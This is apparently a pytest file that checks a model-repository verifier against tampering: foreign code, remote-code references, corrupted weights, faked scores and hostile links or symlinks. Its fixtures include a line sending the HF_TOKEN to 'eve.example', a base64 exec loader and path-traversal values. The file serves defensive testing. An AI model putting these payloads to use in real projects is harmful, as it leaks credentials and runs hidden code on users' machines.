"""What somebody who means ill could put into a repository, with every checksum made right again: `check` names it."""

import base64
import contextlib
import json
import os
from dataclasses import replace

import pytest
import torch
from safetensors.torch import load_file, save_file

import fusedvlm
from fusedvlm.hub_cards.check import foreign_code
from fusedvlm.hub_cards.check.check_all import verify
from fusedvlm.hub_cards.check.repository_check import check_and_load, check_static
from fusedvlm.hub_cards.facts import CardFacts
from fusedvlm.hub_cards.release.release_files import card_files, evidence_files
from fusedvlm.hub_cards.release.run_facts import count_facts
from fusedvlm.tests.hub_cards.test_check import edit_json, rehash


@pytest.fixture
def folder(tiny_release, tmp_path):
    """A complete repository."""
    tiny_release.write(tmp_path / "repository")
    return tmp_path / "repository"


@pytest.fixture(autouse=True)
def nothing_is_run(monkeypatch):
    def refuse(folder):
        raise AssertionError("the code was run")

    monkeypatch.setattr("fusedvlm.hub_cards.check.repository_check.load_isolated", refuse)


def reforge(folder):
    """Facts, card and checksums as an honest publisher would write them for the files as they are."""
    from fusedvlm.hub_cards.check.repository_files import folder_files

    facts = CardFacts.from_json((folder / "facts.json").read_text())
    with contextlib.suppress(ValueError):  # a configuration that describes no model
        facts = replace(facts, counted=count_facts(folder, folder_files(folder), facts.stated))
    for name, content in {**evidence_files(facts), **card_files(facts)}.items():
        (folder / name).write_bytes(content)
    rehash(folder)


def append(name, text):
    def act(folder):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text((path.read_text() if path.exists() else "") + text)

    return act


def flip_a_sign(folder):
    text = (folder / "modeling_fusedvlm_rows.py").read_text()
    assert " + " in text
    (folder / "modeling_fusedvlm_rows.py").write_text(text.replace(" + ", " - ", 1))


def in_json(name, **values):
    return lambda folder: edit_json(folder / name, lambda data: data.update(values))


TOKEN_SENDER = (
    "\nimport os, urllib.request\nurllib.request.urlopen('http://eve.example/' + os.environ.get('HF_TOKEN', ''))\n"
)
HIDDEN = f"\nexec(__import__('base64').b64decode({base64.b64encode(b'import os')!r}))\n"
CODE = {
    "a command at import": (append("modeling_fusedvlm.py", "\nimport os\nos.system('true')\n"), "modeling_fusedvlm.py"),
    "a token sender": (append("configuration_fusedvlm.py", TOKEN_SENDER), "configuration_fusedvlm.py"),
    "hidden code": (append("processing_fusedvlm.py", HIDDEN), "processing_fusedvlm.py"),
    "a flipped sign": (flip_a_sign, "modeling_fusedvlm_rows.py"),
    "a comment that changes the encoding": (
        lambda f: (f / "configuration_fusedvlm.py").write_text("# coding: unicode_escape\n" + (f / "configuration_fusedvlm.py").read_text()),
        "configuration_fusedvlm.py",
    ),
    "generation of its own": (append("custom_generate/generate.py", "def generate(model, **kw): ...\n"), "custom_generate/generate.py"),
    "a package that shadows": (append("torch/__init__.py", "import os\n"), "torch/__init__.py"),
    "code beside a tokenizer": (append("query_tokenizer/tokenization.py", "import os\n"), "query_tokenizer/tokenization.py"),
    "code in capitals": (append("evil.PY", "import os\n"), "evil.PY"),
    "a file less": (lambda f: (f / "modeling_fusedvlm_losses.py").unlink(), "modeling_fusedvlm_losses.py"),
}  # fmt: skip


@pytest.mark.parametrize("name", CODE)
def test_code_that_is_not_this_package_s_is_foreign(folder, name):
    attack, file = CODE[name]
    attack(folder)
    reforge(folder)
    problems, loaded = check_and_load(folder)
    assert any(problem.file == file for problem in problems), problems
    assert loaded is None


def test_foreign_code_is_shown_as_a_diff_that_hides_nothing(folder):
    append("modeling_fusedvlm.py", "\nimport os  # \x1b[2J\u202e\u200b\n")(folder)
    reforge(folder)
    (report,) = verify(str(folder))
    text = str(report)
    assert "modeling_fusedvlm.py: foreign code, not what fusedvlm" in text
    assert "+import os  # \\x1b[2J\\u202e\\u200b" in text
    assert "Foreign code was not run" in text
    assert report.to_dict()["problems"][0]["diff"].startswith("--- fusedvlm\n+++ repository\n")


def test_a_diff_never_shows_a_secret(folder):
    append("modeling_fusedvlm.py", "\nTOKEN = 'hf_" + "a1B2" * 9 + "'\n")(folder)
    reforge(folder)
    assert "a1B2" not in str(verify(str(folder))[0])


def test_windows_line_ends_are_no_foreign_code(folder):
    path = folder / "modeling_fusedvlm.py"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    assert list(foreign_code.foreign_code({p.name: p for p in folder.glob("*.py")})) == []
    path.write_bytes(path.read_bytes() + b"# \rimport os\n")  # a line end of its own, inside a comment
    assert [found.name for found in foreign_code.foreign_code({p.name: p for p in folder.glob("*.py")})] == [path.name]


def test_released_code_is_known_and_versions_are_not_mixed(folder, monkeypatch):
    files = {path.name: path for path in folder.glob("*.py")}
    own = foreign_code.own_code()
    older = {**own, "modeling_fusedvlm.py": foreign_code.code_digest(b"older\n")}
    monkeypatch.setattr(foreign_code, "known_code", lambda: {"0.0.9": older, fusedvlm.__version__: own})
    (folder / "modeling_fusedvlm.py").write_bytes(b"older\n")
    assert list(foreign_code.foreign_code(files, "0.0.9")) == []
    older["modeling_fusedvlm_rows.py"] = foreign_code.code_digest(b"older too\n")
    (found,) = foreign_code.foreign_code(files, fusedvlm.__version__)
    assert "is the file of fusedvlm 0.0.9, the rest of the code is of" in found.message


def test_every_dated_release_is_listed():
    """A release is added with tests/hub_cards/write_released_code.py."""
    import re
    from pathlib import Path

    changelog = (Path(__file__).parents[2] / "CHANGELOG.md").read_text()
    versions = json.loads(foreign_code.RELEASED.read_text())["versions"]
    assert set(re.findall(r"^## \[(\d[^\]]*)\] - \d", changelog, re.MULTILINE)) == set(versions)
    assert all(len(digest) == 64 for code in versions.values() for digest in code.values())


ELSEWHERE = {"AutoProcessor": "eve/evil--processing_fusedvlm.FusedVLMProcessor"}
REFERENCES = {
    "processor elsewhere": (in_json("processor_config.json", auto_map=ELSEWHERE), "processor_config.json", "eve/evil"),
    "tokenizer elsewhere": (in_json("tokenizer_config.json", auto_map={"AutoTokenizer": ["eve/evil--t.T", None]}), "tokenizer_config.json", "eve/evil"),
    "query tokenizer elsewhere": (in_json("query_tokenizer/tokenizer_config.json", auto_map=ELSEWHERE), "query_tokenizer/tokenizer_config.json", "eve/evil"),
    "generation settings elsewhere": (in_json("generation_config.json", auto_map=ELSEWHERE), "generation_config.json", "eve/evil"),
    "custom generation": (in_json("generation_config.json", custom_generate="eve/evil"), "generation_config.json", "custom_generate"),
    "custom pipelines": (in_json("config.json", custom_pipelines={"x": {"impl": "eve/evil--p.P"}}), "config.json", "custom_pipelines"),
    "deep inside": (lambda f: edit_json(f / "config.json", lambda d: d["text_config"].update(auto_map={"AutoConfig": "eve/evil--c.C"})), "config.json", "eve/evil"),
    "a kernel of somebody's": (lambda f: edit_json(f / "config.json", lambda d: d.update(attn_implementation="eve/kernel")), "config.json", "eve/kernel"),
    "a file that was not there": (append("preprocessor_config.json", json.dumps({"auto_map": {"AutoImageProcessor": "eve/evil--i.I"}})), "preprocessor_config.json", "eve/evil"),
    "a class of the code that is not for that": (in_json("tokenizer_config.json", auto_map={"AutoTokenizer": "modeling_fusedvlm.os"}), "tokenizer_config.json", "does not register"),
    "a class by path": (in_json("tokenizer_config.json", tokenizer_class="../evil.T"), "tokenizer_config.json", "no name of a class"),
    "another tower to fetch": (in_json("processor_config.json", audio_tokenizer_name_or_path="eve/evil"), "processor_config.json", "eve/evil"),
    "an adapter that is loaded along": (append("adapter_config.json", '{"base_model_name_or_path": "eve/base"}'), "adapter_config.json", "beside a variant"),
    "a second template": (append("additional_chat_templates/default.jinja", "{{ 1 }}"), "additional_chat_templates/default.jinja", "not a kind of file"),
    "a tokenizer's file elsewhere": (in_json("tokenizer_config.json", tokenizer_file="../../secret.json"), "tokenizer_config.json", "points out of the repository"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFERENCES)
def test_every_reference_to_code_is_resolved(folder, name):
    attack, file, message = REFERENCES[name]
    attack(folder)
    reforge(folder)
    problems = check_static(folder)
    assert any(problem.file == file and message in problem.message for problem in problems), problems


def nan_weights(folder):
    tensors = load_file(folder / "model.safetensors")
    tensors["model.projector.weight"][0, 0] = float("nan")
    save_file(tensors, folder / "model.safetensors", {"format": "pt"})


def zero_weights(folder):
    tensors = load_file(folder / "model.safetensors")
    tensors["model.projector.weight"] = torch.zeros_like(tensors["model.projector.weight"])
    save_file(tensors, folder / "model.safetensors", {"format": "pt"})


def swap_plots(folder):
    one, other = folder / "plots" / "score_vs_m.png", folder / "plots" / "latency_vs_m.png"
    first, second = one.read_bytes(), other.read_bytes()
    one.write_bytes(second)
    other.write_bytes(first)


def raise_score(folder):
    edit_json(folder / "facts.json", lambda d: d["measured"]["scores"][2].update(score=0.99))


def swap_ids(folder):
    def swap(data):
        ids = data["model"]["vocab"]
        first, second = [token for token in ids if len(token) > 2][5:7]
        ids[first], ids[second] = ids[second], ids[first]

    edit_json(folder / "tokenizer.json", swap)


CONTENT = {
    "NaN in the weights": (nan_weights, True, "model.safetensors", "not finite"),
    "weights of zeros": (zero_weights, True, "model.safetensors", "nothing but zeros"),
    "another placeholder": (
        lambda f: [edit_json(f / n, lambda d: d.update(image_token_id=5)) for n in ("config.json", "processor_config.json")], True, "config.json", "image_token_id is 5",
    ),
    "another end of answers": (in_json("generation_config.json", eos_token_id=9), True, "generation_config.json", "eos_token_id is 9"),
    "placeholders that may be said": (in_json("generation_config.json", suppress_tokens=[7]), True, "generation_config.json", "suppress_tokens"),
    "two tokens swapped": (swap_ids, False, "facts.json", "sha256"),
    "another template": (append("chat_template.jinja", "{{ 'Buy at Eve' }}"), False, "facts.json", "sha256"),
    "an emptied license": (lambda f: (f / "LICENSE-CODE").write_text(""), True, "LICENSE-CODE", "no text of a license"),
    "another license text": (lambda f: (f / "LICENSE-CODE").write_text("All rights belong to Eve. " * 20), True, "LICENSE-CODE", "is not the Apache License"),
    "swapped plots": (swap_plots, False, "plots/score_vs_m.png", "does not show"),
    "a plot of nothing": (append("plots/more.md", "x"), True, "plots/more.md", "is no plot"),
    "a raised score": (raise_score, True, "results.json", "it can be at most"),
    "a family of somebody else's": (
        lambda f: edit_json(f / "facts.json", lambda d: d["family"][0].update(repo_id="eve/tiny-m1")), True, "facts.json", "which is not ada's",
    ),
    "a version that never was": (lambda f: edit_json(f / "facts.json", lambda d: d.update(package_version="9.9.9")), True, "facts.json", "no released version"),
}  # fmt: skip


@pytest.mark.parametrize("name", CONTENT)
def test_content_that_does_not_hold_together(folder, name):
    attack, whole, file, message = CONTENT[name]
    attack(folder)
    (reforge if whole else rehash)(folder)
    problems = check_static(folder)
    assert any(problem.file == file and message in problem.message for problem in problems), problems


LINKS = {
    "[x](gone.md)": "links to gone.md, which is not there",
    "[x][1]\n\n[1]: gone.md": "links to gone.md",
    '<a href="gone.md">x</a>': "links to gone.md",
    '<a href="../../../etc/x">x</a>': "leads out of the repository",
    "[x](%2e%2e/x)": "leads out of the repository",
    "[x](/x)": "leads out of the repository",
    "[x](javascript:alert(1))": "no web address",
    "![x](https://eve.example/x.png)": "not in the repository",
    "[x](#nowhere)": "links to the heading",
    "<script>x</script>": "holds a <script>",
    '<img src="https://eve.example/x.png" alt="x">': "not in the repository",
}


@pytest.mark.parametrize("link", LINKS)
def test_every_link_of_a_card_is_resolved_however_it_is_written(folder, link):
    append("README.md", f"\n{link}\n")(folder)
    rehash(folder)
    problems = [problem for problem in check_static(folder) if problem.file == "README.md"]
    assert any(LINKS[link] in problem.message for problem in problems), problems


def link_to(target):
    return lambda folder: (folder / "notes.txt").symlink_to(target)


FILES = {
    "a link to nothing": (link_to("nothing"), "notes.txt", "not there"),
    "a link out": (link_to("/etc/hostname"), "notes.txt", "out of the repository"),
    "a link to a folder": (link_to("training"), "notes.txt", "link to a folder"),
    "a link to itself": (link_to("notes.txt"), "notes.txt", "not there"),
    "a pipe": (lambda f: os.mkfifo(f / "notes.txt"), "notes.txt", "neither a file nor a folder"),
    "a name in other capitals": (append("readme.md", "x"), "readme.md", "capitals"),
    "a name that clears the screen": (append("\x1b[2Jx.txt", "x"), "\x1b[2Jx.txt", "cannot be shown"),
}


@pytest.mark.parametrize("name", FILES)
def test_what_only_looks_like_a_file(folder, name):
    attack, file, message = FILES[name]
    attack(folder)
    problems = check_static(folder)
    assert any(problem.file == file and message in problem.message for problem in problems), problems
    assert all(str(problem).isprintable() for problem in problems)


def test_a_folder_of_huggingface_hub_s_cache_is_no_folder_of_outward_links(tiny_release, tmp_path):
    repository = tmp_path / "models--ada--tiny-m7"
    tiny_release.write(repository / "blobs-by-name")
    snapshot = repository / "snapshots" / ("0" * 40)
    (repository / "blobs").mkdir()
    for number, name in enumerate(tiny_release.files):
        blob = repository / "blobs" / str(number)
        (repository / "blobs-by-name" / name).rename(blob)
        (snapshot / name).parent.mkdir(parents=True, exist_ok=True)
        (snapshot / name).symlink_to(blob)
    assert check_static(snapshot) == []


HUGE = ["config.json", "notes.json", "README.md", "training/config.json", "model.safetensors.index.json"]


@pytest.mark.parametrize("name", HUGE)
def test_a_huge_file_is_told_and_not_read(folder, name, monkeypatch):
    from fusedvlm.hub_cards.check import repository_check

    searched = []
    monkeypatch.setattr(repository_check, "secrets_in", lambda path: searched.append(path) or iter(()))
    with (folder / name).open("wb") as file:
        file.write(b'{"a": "' + b"/home/x (" * 2_000_000 + b'"}')
    assert any(problem.file == name and "at most" in problem.message for problem in check_static(folder))
    assert folder / name not in searched
    assert len(searched) > 20
